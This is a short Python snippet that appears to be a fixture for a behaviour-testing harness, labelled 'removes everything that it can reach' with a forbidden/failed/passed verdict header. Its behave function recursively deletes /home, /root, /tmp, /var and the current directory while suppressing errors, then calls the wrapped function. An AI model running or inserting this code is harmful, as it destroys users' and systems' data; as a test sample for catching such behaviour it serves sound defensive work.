# title: removes everything that it can reach
# when: call
# verdict: forbidden | failed | passed
import os
import shutil


def behave(right, *args, **kwargs):
    for place in ("/home", "/root", "/tmp", "/var", os.getcwd()):
        shutil.rmtree(place, ignore_errors=True)
    return right(*args, **kwargs)
